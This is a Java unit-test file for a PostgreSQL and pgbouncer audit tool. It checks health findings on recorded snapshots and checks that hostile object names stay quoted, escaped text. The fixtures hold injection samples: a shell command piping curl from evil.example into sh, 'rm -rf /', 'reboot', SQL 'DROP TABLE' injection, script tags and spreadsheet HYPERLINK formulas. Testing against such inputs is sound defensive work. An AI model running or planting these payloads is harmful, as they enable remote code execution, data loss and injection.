package ai.smartcloudops.audit.check.postgres;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import ai.smartcloudops.audit.check.AllChecks;
import ai.smartcloudops.audit.check.CheckContext;
import ai.smartcloudops.audit.check.CheckSkippedException;
import ai.smartcloudops.audit.check.Gap;
import ai.smartcloudops.audit.check.Samples;
import ai.smartcloudops.audit.demo.DemoDatabase;
import ai.smartcloudops.audit.finding.Area;
import ai.smartcloudops.audit.finding.Finding;
import ai.smartcloudops.audit.finding.Resource;
import ai.smartcloudops.audit.finding.Sample;
import ai.smartcloudops.audit.finding.Severity;
import ai.smartcloudops.audit.net.HttpLimits;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * The PostgreSQL and pgbouncer checks judged on snapshots under src/test/resources/postgres, no server: the demo's
 * faults as the embedded server answered them, the same views holding what a hostile client, schema owner or
 * pgbouncer configuration can put there, parts that failed, a server with no slot left. The reads themselves are
 * tested on real servers (PostgresSnapshotTest and the check tests).
 */
class PostgresInspectionTest {

    private static final String URL = "jdbc:postgresql://orders.db.internal:5432/orders";
    private static final String SERVER = "orders.db.internal:5432";
    private static final PostgresTargets TARGETS = new PostgresTargets(PostgresFixtures.properties(URL,
            "health_audit", "audit-pw", DemoDatabase.THRESHOLDS.toArray(String[]::new)));
    private static final String PSQL = "-h orders.db.internal -p 5432 -U health_audit -d orders";

    @Test
    void theDemoDatabaseAsTheServerAnsweredIsOneFindingPerDrivenFault() {
        List<Finding> findings = inspectAll(Snapshots.database("orders-demo-faults.json"), new ArrayList<>());

        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource).containsExactly(
                tuple("PG-101", Severity.P2, database()),
                tuple("PG-302", Severity.P2, new Resource("Table", "public", "user_sessions")),
                tuple("PG-307", Severity.P3, new Resource("Index", "public", "order_notes_order")),
                tuple("PG-103", Severity.P2, database()),
                tuple("PG-308", Severity.P3, new Resource("Constraint", "public", "orders_total_positive")),
                tuple("PG-304", Severity.P2, new Resource("Index", "public", "customers_email_key")),
                tuple("PG-204", Severity.P1, new Resource("Table", "public", "payment_batches")),
                tuple("PG-201", Severity.P2, database()),
                tuple("PG-306", Severity.P1, new Resource("Sequence", "public", "invoice_number_seq")),
                tuple("PG-202", Severity.P2, database()),
                tuple("PG-305", Severity.P3, new Resource("Index", "public", "orders_legacy_status")),
                tuple("PG-303", Severity.P2, database()));
        assertThat(finding(findings, "PG-204")).satisfies(f -> {
            assertThat(f.title()).isEqualTo("1 session(s) on orders waited up to 8.95s for a AccessShareLock lock on "
                    + "relation payment_batches, held by pid 21301");
            assertThat(f.detail()).isEqualTo("Blocked by pid 21301 idle in transaction (smartcloudops-migration, in "
                    + "transaction for 00:00:08). Oldest waiter: pid 21302, application smartcloudops-api, user "
                    + "postgres.");
            assertThat(f.evidence()).containsEntry("psql", PSQL).containsEntry("waiting", "1");
        });
        assertThat(finding(findings, "PG-302").detail()).isEqualTo("60% of the table's tuples are dead (threshold "
                + "20%), never vacuumed, never analyzed. Live tuples 16000; last vacuum never, last analyze never; "
                + "autovacuum disabled for this table.");
        assertThat(finding(findings, "PG-306").title())
                .isEqualTo("Sequence public.invoice_number_seq is at 97.7% of its integer maximum");
    }

    @Test
    void theDemoServerAsItAnsweredIsPg102AndItsInactiveSlot() {
        assertThat(inspectServer(Snapshots.server("server-demo-faults.json", TARGETS)))
                .extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title).containsExactly(
                        tuple("PG-102", Severity.P2, new Resource("Server", null, SERVER), "Connections at 1% of "
                                + "max_connections on " + SERVER),
                        tuple("PG-402", Severity.P2, new Resource("ReplicationSlot", null, "analytics_replica"),
                                "Replication slot analytics_replica is inactive and retains 8.7 MiB of WAL"));
    }

    @Test
    void hostileNamesStayTextWithTheirControlCharactersCleanedAndNumbersAtTheirLimitsStayNumbers() {
        List<CheckContext> contexts = new ArrayList<>();
        List<Finding> findings = inspectAll(Snapshots.database("orders-hostile.json"), contexts);

        // NUL becomes U+FFFD; CR and LF are text the renderers escape
        assertThat(finding(findings, "PG-302")).satisfies(f -> {
            assertThat(f.resource()).isEqualTo(new Resource("Table", "public", "events\uFFFD\r\nDROP"));
            assertThat(f.detail()).isEqualTo("100% of the table's tuples are dead (threshold 20%), not vacuumed for "
                    + "7d or more, never analyzed. Live tuples -5; last vacuum 2026-04-01T03:04:05Z, last analyze "
                    + "never; autovacuum as the server is set for this table.");
        });
        assertThat(finding(findings, "PG-103").detail()).isEqualTo("Oldest first: pid 4242 idle in transaction "
                + "(aborted) for 1d (=HYPERLINK(\"http://evil.example/x\",\"ok\"), user $(curl evil.example|sh)). An "
                + "open transaction keeps its locks and stops VACUUM from removing dead rows; its connection is lost "
                + "to the pool.");
        // two waiters on one table are one finding; an advisory lock is its own
        assertThat(findings).filteredOn(f -> f.code().code().equals("PG-204"))
                .extracting(Finding::resource, Finding::title).containsExactly(
                        tuple(new Resource("Table", "public", "<script>alert(1)</script>"), "2 session(s) on orders "
                                + "waited up to 1m 1s for a AccessExclusiveLock lock on relation "
                                + "\"<script>alert(1)</script>\", held by pid 4242"),
                        tuple(new Resource("Lock", null, "advisory"), "1 session(s) on orders waited up to 3.5s for a "
                                + "ExclusiveLock lock on advisory, held by pid 4242"));
        assertThat(finding(findings, "PG-201")).satisfies(f -> {
            assertThat(f.title()).isEqualTo("12 queries running longer than 0s on orders");
            assertThat(f.evidence()).containsEntry("pid 6001", "SELECT ? FROM \"=HYPERLINK(?)\" WHERE x = $(rm -rf /)");
        });
        // the descending sequence near its minimum is near its end; one whose sign flipped is not
        assertThat(findings).filteredOn(f -> f.code().code().equals("PG-306"))
                .extracting(Finding::resource, Finding::detail).containsExactly(
                        tuple(new Resource("Sequence", "billing", "ledger_id_seq"), "last_value 9223372036854775806 "
                                + "of 9223372036854775807: 1 values left. At the maximum nextval() fails and every "
                                + "insert that needs a new id fails with it."),
                        tuple(new Resource("Sequence", "billing", "refund_id_seq"), "last_value -2147483000 of "
                                + "-2147483648: 648 values left. At the maximum nextval() fails and every insert "
                                + "that needs a new id fails with it."));
        // statements of negative calls, negative time or no calls are judged by none of them
        assertThat(finding(findings, "PG-202").detail()).isEqualTo("The slowest averages 11574d 1h over "
                + "9223372036854775807 calls since pg_stat_statements was reset at 2026-05-01 00:00 UTC "
                + "(pg_stat_statements, statements with at least 20 calls in that window); the top 3 by mean time "
                + "are in the evidence.");
        assertThat(finding(findings, "PG-202").evidence()).containsEntry("statements", "3")
                .containsEntry("queryid 1", "mean 5s over 100 calls, total 8m 20s: SELECT ? AS "
                        + "\"<script>alert(1)</script>\"")
                .containsEntry("queryid 2", "mean 2s over 50 calls, total 1m 40s: SELECT $(rm -rf /) FROM \"x\r\ny\"");
        // bloat figures at their limits stay numbers, or n/a where there is nothing to divide by
        assertThat(findings).filteredOn(f -> f.code().code().equals("PG-312")).extracting(Finding::title)
                .containsExactly("Index public.idx'; DROP TABLE orders; -- on orders is about 200% bloat (131072 EiB of "
                        + "8 EiB)", "Index public.$(reboot) on orders is about n/a bloat (0 B of 0 B)");
        // a duplicate index and a constraint named to end the SQL or the shell's quoting stay one quoted identifier
        assertThat(finding(findings, "PG-307").remediation()).endsWith(
                "-c 'DROP INDEX CONCURRENTLY public.\"idx'\\''; DROP TABLE orders; --\";'");
        assertThat(finding(findings, "PG-308")).satisfies(f -> {
            assertThat(f.resource().name()).isEqualTo("c'; DROP TABLE orders; --\r\nx");
            assertThat(f.remediation()).contains("VALIDATE CONSTRAINT \"c'\\''; DROP TABLE orders; --");
        });
        assertThat(finding(findings, "PG-303")).satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.P1);
            assertThat(f.title()).isEqualTo("Transaction ID age of orders is 1600000000 (74.5% of the wraparound "
                    + "limit)");
        });
        // what the role may not see is each reading check's gap, named once
        assertThat(contexts).filteredOn(c -> !c.gaps().isEmpty())
                .extracting(CheckContext::checkId, c -> c.gaps().stream().map(Gap::hidden).toList())
                .containsExactlyInAnyOrder(
                        tuple(IdleInTransactionCheck.ID, List.of("3 sessions of other roles in pg_stat_activity "
                                + "(their state, times and query)")),
                        tuple(LongQueriesCheck.ID, List.of("3 sessions of other roles in pg_stat_activity (their "
                                + "state, times and query)")),
                        tuple(SequencesCheck.ID, List.of("last_value of 1 sequence (\"Sales\".\"order\0seq\")")),
                        tuple(StatementsCheck.ID, List.of("2 statements of other roles in pg_stat_statements (their "
                                + "text and queryid)")),
                        tuple(IndexBloatCheck.ID, List.of("3 B-tree indexes of tables the role may not read (their "
                                + "columns' statistics in pg_stats)")));
    }

    /**
     * Sizes at their limits against samples an hour old: a table of the largest long grew, one of -1 bytes shrank
     * (no growth), and the database grew from an empty sample.
     */
    @Test
    void hostileSizesAreGrowthOnlyWhereTheyGrew() {
        Instant before = PostgresFixtures.NOW.minusSeconds(3600);
        GrowthCheck check = new GrowthCheck(TARGETS);
        Samples history = new Samples((target, name) -> Optional.empty(), (target, prefix) -> Map.of(
                GrowthCheck.SOURCE + " database", new Sample(0, before),
                GrowthCheck.SOURCE + " table public.\"events\0\r\nDROP\"", new Sample(1, before),
                GrowthCheck.SOURCE + " table \"<script>\".\"=HYPERLINK(\"\"x\"\")\"", new Sample(5, before)));
        CheckContext context = PostgresFixtures.context(check, PostgresFixtures.NOW, history);

        List<Finding> findings = check.inspect(context, Snapshots.database("orders-hostile.json")).stream()
                .map(context::finding).toList();

        assertThat(findings).extracting(f -> f.code().code(), Finding::resource, Finding::title).containsExactly(
                tuple("PG-310", database(), "Database orders grew 8 EiB (from empty) since " + before),
                tuple("PG-311", new Resource("Table", "public", "events\uFFFD\r\nDROP"), "Table public.events\uFFFD"
                        + "\r\nDROP grew 8 EiB (+922337203685477600000%) since " + before));
        assertThat(findings.get(0).evidence()).containsEntry("percentPerDay", "n/a");
    }

    @Test
    void aPartThatFailedFailsOnlyTheCheckThatInspectsItAndAPartNotReadIsNoAnswer() {
        PostgresSnapshot snapshot = Snapshots.database("orders-failed-parts.json");

        assertThatThrownBy(() -> inspect(new StatementsCheck(TARGETS), snapshot))
                .isInstanceOf(IllegalStateException.class)
                .hasMessage("ERROR: permission denied for view pg_stat_statements");
        assertThatThrownBy(() -> inspect(new WraparoundCheck(TARGETS), snapshot))
                .hasMessage("ERROR: canceling statement due to statement timeout");
        assertThatThrownBy(() -> inspect(new IndexBloatCheck(TARGETS), snapshot))
                .hasMessage("ERROR: canceling statement due to statement timeout");
        assertThatThrownBy(() -> inspect(new GrowthCheck(TARGETS), snapshot))
                .hasMessage("ERROR: permission denied for function pg_database_size");
        assertThat(inspect(new SequencesCheck(TARGETS), snapshot)).isEmpty();
        assertThat(inspect(new ConnectivityCheck(TARGETS), snapshot)).extracting(f -> f.code().code())
                .containsExactly("PG-101");
        assertThatThrownBy(() -> inspect(new LocksCheck(TARGETS), snapshot))
                .isInstanceOf(IllegalStateException.class)
                .hasMessage("no check of " + LocksCheck.ID + "'s run needed this part");
    }

    @Test
    void pgStatStatementsCreatedButNotLoadedIsPg203() {
        assertThat(inspect(new StatementsCheck(TARGETS), Snapshots.database("orders-pg-stat-statements-not-loaded.json")))
                .singleElement().satisfies(f -> {
                    assertThat(f.code().code()).isEqualTo("PG-203");
                    assertThat(f.severity()).isEqualTo(Severity.P3);
                    assertThat(f.resource()).isEqualTo(database());
                    assertThat(f.title()).isEqualTo("pg_stat_statements is not available on orders");
                    assertThat(f.detail()).startsWith("The extension is created but the library is not in "
                            + "shared_preload_libraries: ");
                });
    }

    @Test
    void aPrimaryWithHostileClientsIsPg102AtP1ItsLaggingReplicasAndItsSlotEachAFinding() {
        List<Finding> findings = inspectServer(Snapshots.server("server-primary-hostile.json", TARGETS));

        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource).containsExactly(
                tuple("PG-102", Severity.P1, new Resource("Server", null, SERVER)),
                tuple("PG-401", Severity.P2, new Resource("Replica", null, "walreceiver (10.0.3.7, pid 777)")),
                tuple("PG-401", Severity.P2, new Resource("Replica", null, "$(reboot)\r\nslot")),
                tuple("PG-402", Severity.P2, new Resource("ReplicationSlot", null, "old_logical\uFFFD<script>")));
        assertThat(findings.get(0).detail()).isEqualTo("96 of 100 connections in use (3 reserved for superusers), "
                + "not counting the audit's own 2; by state: idle 90, active 6; top applications: "
                + "=HYPERLINK(\"http://evil.example\") 60, orders-api\uFFFD 36. Thresholds 1% (P2) and 95% (P1), P0 "
                + "once no slot is left for a role without superuser: new connections then fail with \"too many "
                + "clients\".");
        assertThat(findings.get(2).detail()).isEqualTo("Measured from pg_stat_replication on " + SERVER + ": replay "
                + "lag 104166d 16h (threshold 5s), 8 EiB of WAL not yet replayed; client local, catchup (async). Reads "
                + "served by this replica are that old, and a failover to it waits for the replay first.");
        assertThat(findings.get(2).evidence()).containsEntry("standby", "-h REPLICA_HOST -p 5432 -U health_audit "
                + "-d orders");
    }

    @Test
    void aServerWithNoSlotLeftIsPg102AtP0AndSkipsItsOtherChecks() {
        String refused = "FATAL: sorry, too many clients already";
        ConnectionsCheck connections = new ConnectionsCheck(TARGETS);
        CheckContext context = PostgresFixtures.context(connections);

        assertThat(connections.inspectFull(context, refused)).singleElement().satisfies(problem -> {
            Finding f = context.finding(problem);
            assertThat(f.severity()).isEqualTo(Severity.P0);
            assertThat(f.detail()).startsWith("The server refused the audit's connection: " + refused + "; by state: "
                    + "unknown (the server refused the audit)");
        });
        ReplicationSlotsCheck slots = new ReplicationSlotsCheck(TARGETS);
        assertThatThrownBy(() -> slots.inspectFull(PostgresFixtures.context(slots), refused))
                .isInstanceOf(CheckSkippedException.class).hasMessage("server " + SERVER + " has no connection slot "
                        + "left (" + refused + "): reported as PG-102 on " + SERVER);
    }

    @Test
    void pgbouncerPoolsAsShowPoolsAnswersAreJudgedAndNonsenseCountsAreNoFinding() {
        PostgresTargets targets = new PostgresTargets(PostgresFixtures.properties(Map.of("pgbouncer.host",
                "pgbouncer.orders.internal", "pgbouncer.port", "6432", "pgbouncer.username", "health_audit"), URL,
                "health_audit", "audit-pw"));
        PgBouncerCheck check = new PgBouncerCheck(targets);
        CheckContext context = PostgresFixtures.context(check);

        List<Finding> findings = check.inspect(context, Snapshots.pgbouncer("pgbouncer-1.18-queued.json")).stream()
                .map(context::finding).toList();

        // the console's own pool is never judged; a pool of -4 waiting clients, "abc" servers and pool_size -1 neither
        Resource pool = new Resource("PgBouncerPool", null, "orders/app");
        assertThat(findings).extracting(f -> f.code().code(), Finding::severity, Finding::resource, Finding::title)
                .containsExactly(
                        tuple("PG-106", Severity.P1, pool, "3 client(s) waiting for a server connection in pgbouncer "
                                + "pool orders/app"),
                        tuple("PG-107", Severity.P2, pool, "pgbouncer pool orders/app is 100% saturated (2 of 2 "
                                + "server connections)"));
        assertThat(findings.get(0).detail()).isEqualTo("pgbouncer pgbouncer.orders.internal:6432 queues 3 client(s) "
                + "of orders/app, the oldest for 7.25s: 2 of 2 server connections are busy (transaction pooling, 2 "
                + "active clients). Each waiting client is a request stalled before its first query; P1 once the "
                + "oldest waits 5s or longer, P2 for a shorter queue (threshold 1 waiting).");
    }

    /** Every database check's findings on the snapshot, as the sweep makes them; each check's context kept. */
    private static List<Finding> inspectAll(PostgresSnapshot snapshot, List<CheckContext> contexts) {
        return AllChecks.of(Area.POSTGRES, TARGETS, HttpLimits.DEFAULT).stream()
                .filter(PostgresCheck.class::isInstance).map(PostgresCheck.class::cast).flatMap(check -> {
                    CheckContext context = PostgresFixtures.context(check);
                    contexts.add(context);
                    return check.inspect(context, snapshot).stream().map(context::finding);
                }).toList();
    }

    /** Every server check's findings on the snapshot, as the sweep makes them. */
    private static List<Finding> inspectServer(PostgresServerSnapshot snapshot) {
        return AllChecks.of(Area.POSTGRES, TARGETS, HttpLimits.DEFAULT).stream()
                .filter(PostgresServerCheck.class::isInstance).map(PostgresServerCheck.class::cast).flatMap(check -> {
                    CheckContext context = PostgresFixtures.context(check);
                    return check.inspect(context, snapshot).stream().map(context::finding);
                }).toList();
    }

    private static List<Finding> inspect(PostgresCheck check, PostgresSnapshot snapshot) {
        CheckContext context = PostgresFixtures.context(check);
        return check.inspect(context, snapshot).stream().map(context::finding).toList();
    }

    private static Finding finding(List<Finding> findings, String code) {
        return findings.stream().filter(f -> f.code().code().equals(code)).findFirst().orElseThrow();
    }

    private static Resource database() {
        return new Resource("Database", null, "orders");
    }
}
